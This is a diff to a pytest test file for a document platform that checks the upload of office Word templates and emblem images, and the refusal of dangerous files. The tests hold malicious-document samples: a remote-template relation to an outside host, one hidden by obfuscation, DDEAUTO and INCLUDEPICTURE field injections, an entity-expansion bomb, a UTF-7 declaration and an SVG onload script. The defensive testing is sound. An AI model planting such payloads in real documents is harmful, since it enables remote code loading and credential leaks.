@@ -1,18 +1,22 @@
 """An office puts its own Word template and kop in place of the shipped ones; mistakes are refused with their place."""
 
+import hashlib
 import io
 import zipfile
 from typing import Any
 
 import pytest
 from docx import Document as WordDocument
+from docx.oxml.ns import qn
+from pypdf import PdfReader
 
 from tests.ir_platform.documents.reading import docx_text
 from tests.support.api import Api, problem_of
-from tests.support.paper import a_template, draw_all
+from tests.support.paper import a_png, a_template, draw_all
 
 KIND = "dokumen_informasi_gangguan"
 AT = f"/api/v1/templates/{KIND}"
+EMBLEM = "/api/v1/letterhead/lambang"
 KOP = {"alamat": "Jalan Contoh 1", "tempat": "Samarinda", "kontak": "Telepon 112", "kode_klasifikasi": "000.5.3"}
 
 
@@ -128,6 +132,17 @@ RELATION = (
     b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
     b'attachedTemplate" Target="http://203.0.113.9/jahat.dotm" TargetMode="External"/></Relationships>'
 )
+HIDDEN_RELATION = (
+    RELATION.replace(b"External", b"&#69;xternal")
+    .replace(b"<Relationship ", b"<r:Relationship x='>' ")
+    .replace(b"<Relationships ", b"<Relationships xmlns:r='x' ")
+)
+FIELD = (
+    b'<w:ftr xmlns:w="x"><w:fldChar w:fldCharType="begin"/><w:instrText>PAGE</w:instrText>'
+    b'<w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText><!-- --><w:instrText>AUTO c:\\cmd</w:instrText>'
+    b'<w:fldChar w:fldCharType="end"/></w:ftr>'
+)
+SIMPLE_FIELD = b"<w:ftr xmlns:w='x'><w:fldSimple w:instr='&#73;NCLUDEPICTURE \"\\\\203.0.113.9\\a.png\"'/></w:ftr>"
 BOMB = b'<!DOCTYPE a [<!ENTITY b "cccc">]><a>&b;</a>'
 
 
@@ -138,12 +153,31 @@ BOMB = b'<!DOCTYPE a [<!ENTITY b "cccc">]><a>&b;</a>'
         (b"PK\x03\x04 rusak", "bukan berkas Word"),
         (with_part("word/vbaProject.bin", b"x"), "makro"),
         (with_part("word/_rels/settings.xml.rels", RELATION), "merujuk ke luar berkas (http://203.0.113.9/jahat.dotm)"),
+        (with_part("word/_rels/settings.xml.rels", HIDDEN_RELATION), "merujuk ke luar berkas (http://203.0.113.9/"),
+        (with_part("word/footer9.xml", FIELD), "bidang Word DDEAUTO"),
+        (with_part("word/footer9.xml", SIMPLE_FIELD), "bidang Word INCLUDEPICTURE"),
+        (with_part("word/footer9.xml", "<a/>".encode("utf-16-le")), "deklarasi"),
+        (with_part("word/footer9.xml", b'<?xml version="1.0" encoding="utf-7"?><a/>'), "deklarasi"),
         (with_part("word/embeddings/oleObject1.doc", b"x"), "objek yang disematkan"),
         (with_part("word/besar.xml", bytes(60_000_000)), "terlalu besar setelah dibuka"),
         (with_part("word/comments.xml", BOMB), "deklarasi"),
         (with_part("word/document.xml", b"<w:document"), "bukan berkas Word"),
     ],
-    ids=["text", "damaged", "macro", "outside", "object", "bomb", "entities", "broken xml"],
+    ids=[
+        "text",
+        "damaged",
+        "macro",
+        "outside",
+        "outside, hidden",
+        "field",
+        "simple field",
+        "other encoding",
+        "other encoding, declared",
+        "object",
+        "bomb",
+        "entities",
+        "broken xml",
+    ],
 )
 def test_a_file_that_may_do_harm_is_refused(api: Api, data: bytes, reason: str) -> None:
     before = api.everything()
@@ -173,6 +207,9 @@ def test_templates_and_kop_are_the_administrators(api: Api, who: str | None, sta
     problem_of(client.delete(AT), status)
     problem_of(client.get("/api/v1/letterhead"), status)
     problem_of(client.put("/api/v1/letterhead", json=KOP), status)
+    problem_of(client.get(EMBLEM), status)
+    problem_of(client.put(EMBLEM), status)
+    problem_of(client.delete(EMBLEM), status)
 
     assert api.everything() == before
 
@@ -189,10 +226,8 @@ def test_the_kop_stands_on_papers_that_are_made_afterwards(api: Api) -> None:
 
     assert admin.put("/api/v1/letterhead", json=KOP).status_code == 200
 
-    assert admin.get("/api/v1/letterhead").json() == {
-        **dict.fromkeys(admin.get("/api/v1/letterhead").json(), ""),
-        **KOP,
-    }
+    shown = admin.get("/api/v1/letterhead").json()
+    assert {name: words for name, words in shown.items() if words and not name.startswith("batas_")} == KOP
     incident = api.report()
     document = draw_all(api, incident["id"])[0]
     text = docx_text(kabid.get(f"/api/v1/incidents/{incident['id']}/documents/{document.id}.docx").content)
@@ -200,3 +235,81 @@ def test_the_kop_stands_on_papers_that_are_made_afterwards(api: Api) -> None:
     assert "000.5.3" in text
     with api.state.read() as uow:
         assert [entry.fact.action for entry in uow.audit.of_subject("office:utama")] == ["letterhead.changed"]
+
+
+def put_emblem(api: Api, data: bytes) -> Any:
+    return api.client("admin").put(EMBLEM, files={"file": ("lambang.png", data)})
+
+
+def pictures_of(client: Any, at: str) -> tuple[int, int]:
+    """How many pictures stand in the DOCX and in the PDF."""
+    word = WordDocument(io.BytesIO(client.get(f"{at}.docx").content))
+    pages = PdfReader(io.BytesIO(client.get(f"{at}.pdf").content)).pages
+    return len(word.inline_shapes), sum(len(page.images) for page in pages)
+
+
+def test_the_emblem_stands_in_the_kop_of_papers_made_afterwards_and_stays_in_theirs(api: Api) -> None:
+    kabid, emblem = api.client("kabid"), a_png(30, 40)
+    before = api.report()
+
+    answer = put_emblem(api, emblem)
+
+    assert answer.status_code == 200, answer.text
+    assert answer.json()["lambang"]["sha256"] == hashlib.sha256(emblem).hexdigest()
+    after = api.report()
+    papers = [f"/api/v1/incidents/{one['id']}/documents/{draw_all(api, one['id'])[0].id}" for one in (before, after)]
+    without, with_it = (pictures_of(kabid, at) for at in papers)
+    assert (with_it[0] - without[0], with_it[1] - without[1]) == (1, 1)
+    assert api.client("admin").delete(EMBLEM).status_code == 204
+    kabid.put(f"{papers[1]}/nomor-naskah", json={"nomor": "800/1", "tanggal": "2026-11-23"})
+    draw_all(api, after["id"])
+    assert pictures_of(kabid, papers[1]) == with_it
+
+
+def test_an_office_template_prints_the_emblem_too(api: Api) -> None:
+    put_emblem(api, a_png(30, 40))
+    assert put(api, a_template(KIND, text="{{ kop.lambang }}")).status_code == 200
+
+    incident = api.report()
+
+    at = f"/api/v1/incidents/{incident['id']}/documents/{draw_all(api, incident['id'])[0].id}"
+    word = WordDocument(io.BytesIO(api.client("kabid").get(f"{at}.docx").content))
+    assert word.paragraphs[-1]._p.findall(".//" + qn("w:drawing"))
+
+
+def test_words_of_the_kop_leave_the_emblem_and_the_emblem_the_words(api: Api) -> None:
+    admin, emblem = api.client("admin"), a_png(30, 40)
+    admin.put("/api/v1/letterhead", json=KOP)
+    put_emblem(api, emblem)
+
+    shown = admin.put("/api/v1/letterhead", json={**KOP, "tempat": "Tenggarong"}).json()
+
+    assert (shown["tempat"], shown["alamat"]) == ("Tenggarong", KOP["alamat"])
+    picture = admin.get(EMBLEM)
+    assert (picture.content, picture.headers["content-type"]) == (emblem, "image/png")
+
+
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (b"<svg onload='alert(1)'/>", "PNG atau JPEG"),
+        (b"GIF89a" + bytes(40), "PNG atau JPEG"),
+        (a_png(3, 3)[:30], "PNG atau JPEG"),
+        (a_png(2_001, 1), "2000 piksel"),
+        (bytes(600 * 1024), "512 KiB"),
+    ],
+)
+def test_a_picture_that_papers_cannot_carry_is_refused_with_the_reason(api: Api, data: bytes, reason: str) -> None:
+    before = api.everything()
+
+    problem = problem_of(put_emblem(api, data), 422)
+
+    assert reason in problem["detail"]
+    assert api.everything() == before
+
+
+def test_an_emblem_that_is_not_there_is_not_found(api: Api) -> None:
+    admin = api.client("admin")
+
+    problem_of(admin.get(EMBLEM), 404)
+    problem_of(admin.delete(EMBLEM), 404)
